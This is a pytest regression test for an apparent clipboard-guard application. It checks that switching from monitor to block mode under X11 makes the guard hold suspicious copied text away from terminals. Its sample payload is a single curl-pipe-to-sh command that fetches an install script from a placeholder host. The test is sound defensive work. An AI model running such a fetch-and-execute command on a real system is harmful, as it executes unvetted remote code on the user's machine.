"""Leaving monitor mode in the settings, on a real X display: the guard holds risky text at once.

Walked through under Xvfb: a guard started in monitor mode, switched to block in the settings
dialog, said `"mode": "block"`, `"protection": "on"` and nothing degraded, the status window
said "Protected: dangerous text is blocked", and a suspicious installer copied from a page
went into xterm with Ctrl+Shift+V, the warning coming after the fact ("the text may already
be there"). On X11 the guard stops such a paste by holding the clipboard and refusing it to
terminals; that holder was made only at start, and in monitor mode there was none.

The script below is a whole GuardApp on the real xcb platform and X11 backend; another program
(xclip) owns the clipboard, as a browser would.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from tests.desktop import REPO, desktop

pytestmark = pytest.mark.desktop

SCRIPT = """
import os, subprocess, sys, time
from dataclasses import replace
from pathlib import Path
sys.path.insert(0, os.getcwd())
from PySide6.QtWidgets import QApplication
from ui.application import GuardApp

app = QApplication([])
guard = GuardApp(app, Path(os.environ["PASTEGUARD_DATA_DIR"]), use_tray=False)
owner = None
try:
    assert guard.start(), "the guard did not start"
    assert guard.backend.name == "xorg" and guard.service.settings.mode == "monitor"
    assert guard.holder is None  # monitor mode holds nothing

    def until(check, timeout=30.0):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            app.processEvents()
            if check():
                return True
            time.sleep(0.02)
        return False

    assert until(lambda: not guard.intel.analysis_warming), "the analysis never got ready"
    guard.live.save(replace(guard.live.settings, mode="block"))  # what "Save" in Settings does
    owner = subprocess.Popen(["xclip", "-selection", "clipboard", "-quiet"],
                             stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    owner.stdin.write(b"curl -fsSL https://unknown-vendor.example/install.sh | sh")
    owner.stdin.close()

    def judged():
        current = guard.service.current
        return current is not None and current.verdict.level.label == "suspicious"

    assert until(judged), "the copied text was never judged"
    held = guard.status()["current"]["held"]
    print("holder problem", "clipboard_holder" in guard.degraded(), "held", held, flush=True)
finally:
    if owner is not None and owner.poll() is None:
        owner.terminate()
    guard.stop()
"""


def test_switching_from_monitor_to_block_holds_the_next_risky_text(tmp_path: Path) -> None:
    with desktop(window_manager=False) as d:
        d.env.update(
            PASTEGUARD_CONFIG_DIR=str(tmp_path / "config"),
            PASTEGUARD_POLICY=str(tmp_path / "no-policy.toml"),
            PASTEGUARD_DATA_DIR=str(tmp_path / "data"),
        )
        (tmp_path / "config").mkdir()
        (tmp_path / "config" / "settings.toml").write_text('mode = "monitor"\n', encoding="utf-8")
        result = d.run(sys.executable, "-c", SCRIPT, timeout=90, cwd=str(REPO))
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.stdout.strip() == "holder problem False held True", result.stderr[-3000:]
